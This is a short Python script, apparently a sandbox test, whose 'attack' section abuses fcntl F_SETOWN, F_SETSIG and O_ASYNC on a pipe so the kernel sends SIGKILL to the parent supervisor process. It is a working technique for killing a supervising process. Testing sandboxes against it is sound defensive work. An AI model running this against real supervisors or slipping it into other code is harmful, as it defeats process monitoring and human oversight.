"""Has the kernel kill the supervisor as soon as there is something to read in a pipe."""

import fcntl
import os
import signal

# control:
one, other = os.pipe()
fcntl.fcntl(one, fcntl.F_SETFD, fcntl.FD_CLOEXEC)
# attack:
fcntl.fcntl(one, fcntl.F_SETOWN, os.getppid())
fcntl.fcntl(one, 10, signal.SIGKILL)  # F_SETSIG
fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
os.write(other, b"x")
